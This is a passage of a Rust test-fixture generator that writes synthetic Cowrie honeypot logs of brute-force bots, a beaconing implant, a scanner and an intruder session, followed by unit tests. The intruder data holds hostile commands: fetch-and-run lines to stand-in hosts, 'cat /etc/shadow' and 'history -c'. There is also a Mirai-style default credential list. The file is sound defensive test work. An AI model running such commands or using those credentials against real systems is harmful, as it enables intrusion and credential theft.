        "curve25519-sha256@libssh.org",
        "ecdh-sha2-nistp256",
        "ecdh-sha2-nistp384",
        "ecdh-sha2-nistp521",
        "diffie-hellman-group-exchange-sha256",
        "diffie-hellman-group16-sha512",
        "diffie-hellman-group18-sha512",
        "diffie-hellman-group14-sha256",
        "ext-info-c",
        "kex-strict-c-v00@openssh.com",
    ],
    key: &[
        "ssh-ed25519-cert-v01@openssh.com",
        "ssh-ed25519",
        "ecdsa-sha2-nistp256",
        "rsa-sha2-512",
        "rsa-sha2-256",
    ],
    enc: &[
        "chacha20-poly1305@openssh.com",
        "aes128-ctr",
        "aes192-ctr",
        "aes256-ctr",
        "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com",
    ],
    mac: &[
        "umac-64-etm@openssh.com",
        "umac-128-etm@openssh.com",
        "hmac-sha2-256-etm@openssh.com",
        "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1-etm@openssh.com",
    ],
    comp: &["none", "zlib@openssh.com"],
};

/// The Cowrie sample.
fn cowrie_sample() -> Vec<u8> {
    let mut rng = Rng(0xc0ff_ee00);
    let mut log = Log::default();
    chpasswd_bot(&mut log, &mut rng, "203.0.113.14", 20.0, 14);
    telnet_bot(&mut log, &mut rng, "198.51.100.201", 300.0, 24);
    tunnel_beacon(&mut log, &mut rng, "198.51.100.23", 3.0, 40);
    version_scanner(&mut log, &mut rng, "203.0.113.50", 700.0);
    key_prober(&mut log, &mut rng, "203.0.113.120", 1000.0);
    cowrie_intruder(&mut log, &mut rng, "198.51.100.77", 1300.0);
    malformed_cowrie(&mut log);
    log.render()
}

/// The libssh "chpasswd" bot family: short sessions, one password each,
/// a few seconds apart; the odd success runs its one-liner.
fn chpasswd_bot(log: &mut Log, rng: &mut Rng, ip: &str, start: f64, sessions: usize) {
    let mut t = start;
    for index in 0..sessions {
        let session = Session::new(rng, ip);
        let begin = t;
        session.connect(log, rng, t, "ssh");
        t += rng.between(0.05, 0.15);
        session.version(log, t, "SSH-2.0-libssh-0.6.3");
        t += rng.between(0.01, 0.05);
        session.kex(log, t, &LIBSSH_063);
        t += rng.between(0.2, 0.6);
        let success = index == sessions / 2;
        let password = if success {
            "admin"
        } else {
            *rng.pick(PASSWORDS)
        };
        session.login(log, t, "root", password, success);
        if success {
            t += rng.between(0.2, 0.4);
            session.event(
                log,
                t,
                "cowrie.session.params",
                &[("arch", Value::Text("linux-x64-lsb"))],
                "",
            );
            t += rng.between(0.1, 0.3);
            let input = "echo \"root:Xk29dLq0pZ\"|chpasswd|bash";
            session.command(log, t, input);
            t += 0.004;
            session.event(
                log,
                t,
                "cowrie.command.failed",
                &[("input", Value::Text("chpasswd"))],
                "Command not found: chpasswd",
            );
            t += rng.between(0.1, 0.2);
            session.event(
                log,
                t,
                "cowrie.log.closed",
                &[
                    (
                        "ttylog",
                        Value::Owned(format!("var/lib/cowrie/tty/{}", rng.hex(64))),
                    ),
                    ("size", Value::Int(1288)),
                    ("shasum", Value::Owned(rng.hex(64))),
                    ("duplicate", Value::Bool(false)),
                    ("duration", Value::Float(0.6)),
                ],
                "Closing TTY Log",
            );
        }
        t += rng.between(0.05, 0.2);
        session.closed(log, t, ((t - begin) * 1e3).round() / 1e3);
        t += rng.between(6.0, 14.0);
    }
}

/// A Mirai-style Telnet bot: one session, default credentials at a steady
/// pace, gives up.
fn telnet_bot(log: &mut Log, rng: &mut Rng, ip: &str, start: f64, attempts: usize) {
    const CREDENTIALS: &[(&str, &str)] = &[
        ("admin", "admin"),
        ("root", "xc3511"),
        ("root", "vizxv"),
        ("admin", "juantech"),
        ("root", "xmhdipc"),
        ("support", "support"),
        ("root", "default"),
        ("guest", "12345"),
        ("root", "contraseña1"),
    ];
    let session = Session::new(rng, ip);
    let mut t = start;
    session.connect(log, rng, t, "telnet");
    for _ in 0..attempts {
        t += 1.5 * rng.between(0.8, 1.2);
        let (user, password) = *rng.pick(CREDENTIALS);
        session.login(log, t, user, password, false);
    }
    t += 0.5;
    session.closed(log, t, ((t - start) * 1e3).round() / 1e3);
}

/// An implant tunnelling its check-ins through an SSH session opened before
/// this log starts (so the session's protocol is unknown here): a
/// direct-tcpip request about every 60 s, ±20 %.
fn tunnel_beacon(log: &mut Log, rng: &mut Rng, ip: &str, start: f64, check_ins: usize) {
    let session = Session::new(rng, ip);
    let mut t = start;
    for _ in 0..check_ins {
        let port = rng.port();
        session.event(
            log,
            t,
            "cowrie.direct-tcpip.request",
            &[
                ("dst_ip", Value::Text("192.0.2.80")),
                ("dst_port", Value::Int(443)),
                ("src_port", Value::Int(port)),
            ],
            &format!("direct-tcp connection request to 192.0.2.80:443 from 127.0.0.1:{port}"),
        );
        session.event(
            log,
            t + 0.002,
            "cowrie.direct-tcpip.data",
            &[
                ("dst_ip", Value::Text("192.0.2.80")),
                ("dst_port", Value::Int(443)),
                (
                    "data",
                    Value::Text("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"),
                ),
                ("id", Value::Int(0)),
            ],
            "direct-tcp forward to 192.0.2.80:443 with data",
        );
        t += 60.0 * rng.between(0.66, 1.34);
    }
}

/// A scanner grabbing the SSH banner with whatever it speaks: HTTP, TLS,
/// a Go client with the `b'…'` quirk, nothing at all.
fn version_scanner(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    let versions = [
        "GET / HTTP/1.1",
        "\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03",
        "b'SSH-2.0-Go'",
        "",
        "SSH-2.0-ZGrab ZGrab SSH Survey",
    ];
    let mut t = start;
    for version in versions {
        let session = Session::new(rng, ip);
        let begin = t;
        session.connect(log, rng, t, "ssh");
        t += rng.between(0.05, 0.3);
        session.version(log, t, version);
        t += rng.between(0.1, 0.5);
        session.closed(log, t, ((t - begin) * 1e3).round() / 1e3);
        t += rng.between(1.0, 4.0);
    }
}

/// A bot trying a stolen public key, as newer Cowrie logs it.
fn key_prober(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    let session = Session::new(rng, ip);
    let mut t = start;
    session.connect(log, rng, t, "ssh");
    t += 0.08;
    session.version(log, t, "SSH-2.0-Go");
    t += 0.4;
    let fingerprint = "2c:4b:8a:e1:07:3d:9f:11:5a:c8:62:0e:b4:93:d7:15";
    session.event(
        log,
        t,
        "cowrie.client.fingerprint",
        &[
            ("username", Value::Text("deploy")),
            ("fingerprint", Value::Text(fingerprint)),
            (
                "key",
                Value::Text("AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyNotRealExampleKeyNotReal"),
            ),
            ("type", Value::Text("ssh-ed25519")),
        ],
        &format!(
            "public key attempt for user deploy of type ssh-ed25519 with fingerprint {fingerprint}"
        ),
    );
    t += 0.3;
    session.closed(log, t, 0.78);
}

/// An attacker who logs in, looks around with human pauses, fetches a
/// payload (one fetch fails), and uploads a tool over SCP.
fn cowrie_intruder(log: &mut Log, rng: &mut Rng, ip: &str, start: f64) {
    let commands: &[(&str, Option<&str>)] = &[
        ("uname -a", None),
        ("id", None),
        ("cat /proc/cpuinfo | grep name | wc -l", None),
        ("nproc", Some("nproc")),
        ("ls -la /tmp", None),
        ("cd /tmp", None),
        ("wget http://203.0.113.200/bins/x86_64 -O .x", None),
        ("curl -s http://198.51.100.250/k.sh | sh", None),
        ("chmod +x .x; ./.x", None),
        ("ps aux | grep [m]iner", None),
        ("crontab -l", Some("crontab")),
        ("cat /etc/shadow", None),
        ("history -c", None),
        ("exit", None),
    ];
    let session = Session::new(rng, ip);
    let mut t = start;
    session.connect(log, rng, t, "ssh");
    t += 0.12;
    session.version(log, t, "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5");
    t += 0.03;
    session.kex(log, t, &OPENSSH_96);
    for (password, success) in [("root", false), ("123456", false), ("toor", true)] {
        t += rng.between(2.5, 6.0);
        session.login(log, t, "root", password, success);
    }
    t += 0.3;
    session.event(
        log,
        t,
        "cowrie.client.size",
        &[("width", Value::Int(180)), ("height", Value::Int(48))],
        "Terminal Size: 180 48",
    );
    t += 0.01;
    session.event(
        log,
        t,
        "cowrie.session.params",
        &[("arch", Value::Text("linux-x64-lsb"))],
        "",
    );
    for (input, failed) in commands {
        t += 0.6 + 14.0 * rng.unit().powi(3);
        session.command(log, t, input);
        if let Some(name) = failed {
            t += 0.004;
            session.event(
                log,
                t,
                "cowrie.command.failed",
                &[("input", Value::Text(name))],
                &format!("Command not found: {name}"),
            );
        }
        if input.starts_with("wget") {
            t += rng.between(1.5, 3.0);
            let shasum = rng.hex(64);
            session.event(
                log,
                t,
                "cowrie.session.file_download",
                &[
                    ("url", Value::Text("http://203.0.113.200/bins/x86_64")),
                    ("outfile", Value::Owned(format!("var/lib/cowrie/downloads/{shasum}"))),
                    ("shasum", Value::Owned(shasum.clone())),
                    ("destfile", Value::Text("/tmp/.x")),
                    ("duplicate", Value::Bool(false)),
                ],
                &format!("Downloaded URL (http://203.0.113.200/bins/x86_64) with SHA-256 {shasum} to var/lib/cowrie/downloads/{shasum}"),
            );
        }
        if input.starts_with("curl") {
            t += rng.between(3.0, 5.0);
            session.event(
                log,
                t,
                "cowrie.session.file_download.failed",
                &[
                    ("url", Value::Text("http://198.51.100.250/k.sh")),
                    (
                        "error",
                        Value::Text(
                            "Connection was refused by other side: 111: Connection refused.",
                        ),
                    ),
                ],
                "Attempt to download file(s) from URL (http://198.51.100.250/k.sh) failed",
            );
        }
        if *input == "chmod +x .x; ./.x" {
            t += rng.between(4.0, 8.0);
            let shasum = rng.hex(64);
            session.event(
                log,
                t,
                "cowrie.session.file_upload",
                &[
                    ("filename", Value::Text("kit.tgz")),
                    (
                        "outfile",
                        Value::Owned(format!("var/lib/cowrie/downloads/{shasum}")),
                    ),
                    ("shasum", Value::Owned(shasum.clone())),
                    ("destfile", Value::Text("/tmp/kit.tgz")),
                    ("duplicate", Value::Bool(false)),
                ],
                &format!("SCP Uploaded file \"kit.tgz\" to var/lib/cowrie/downloads/{shasum}"),
            );
        }
    }
    t += 0.2;
    session.event(
        log,
        t,
        "cowrie.log.closed",
        &[
            (
                "ttylog",
                Value::Owned(format!("var/lib/cowrie/tty/{}", rng.hex(64))),
            ),
            ("size", Value::Int(4_804_211)),
            ("shasum", Value::Owned(rng.hex(64))),
            ("duplicate", Value::Bool(false)),
            ("duration", Value::Float(((t - start) * 1e3).round() / 1e3)),
        ],
        "Closing TTY Log",
    );
    t += 0.01;
    session.closed(log, t, ((t - start) * 1e3).round() / 1e3);
}

/// Lines that break the format: a line cut by log rotation, Cowrie's text
/// log mixed in, and JSON of another program.
fn malformed_cowrie(log: &mut Log) {
    log.push(
        at(650.0),
        r#"{"eventid":"cowrie.login.failed","username":"root","password":"1234","message":"login attempt [root/1234] fa"#,
    );
    log.push(
        at(1200.0),
        "2026-03-02T08:20:00.000000Z [HoneyPotSSHTransport,12,203.0.113.120] avatar deploy logging out",
    );
    log.push(
        at(1500.0),
        r#"{"level":"info","ts":"2026-03-02T08:25:00Z","msg":"output_jsonlog: rotated"}"#,
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn timestamps_are_written_as_python_and_cowrie_write_them() {
        assert_eq!(iso_decnet(START_US), "2026-03-02T08:00:00+00:00");
        assert_eq!(iso_decnet(START_US + 1), "2026-03-02T08:00:00.000001+00:00");
        // 2024-02-29T23:59:59.5Z, a leap day.
        let leap_day = 1_709_251_199_500_000;
        assert_eq!(iso_decnet(leap_day), "2024-02-29T23:59:59.500000+00:00");
        assert_eq!(iso_cowrie(START_US), "2026-03-02T08:00:00.000000Z");
    }

    #[test]
    fn structured_data_values_escape_backslash_quote_and_bracket() {
        let fields = fields([("command", r#"grep "[m]iner" \x"#)]);
        let line = syslog(
            START_US,
            SEVERITY_INFO,
            "d",
            "ssh",
            "command",
            &fields,
            None,
        );
        assert!(
            line.ends_with(r#"[relay@55555 command="grep \"[m\]iner\" \\x"]"#),
            "{line}"
        );
    }

    #[test]
    fn a_line_without_fields_has_the_nil_structured_data() {
        let line = syslog(
            START_US,
            SEVERITY_INFO,
            "d",
            "sshd",
            "-",
            &[],
            Some("Failed"),
        );
        assert_eq!(line, "<134>1 2026-03-02T08:00:00+00:00 d sshd - - - Failed");
    }

    #[test]
    fn json_strings_escape_quotes_backslashes_and_controls() {
        assert_eq!(json_string("a\"b\\c\u{1}\n"), r#""a\"b\\c\u0001\n""#);
    }

    #[test]
    fn the_samples_are_the_same_on_every_run() {
        assert_eq!(decnet_sample(), decnet_sample());
        assert_eq!(cowrie_sample(), cowrie_sample());
    }
}
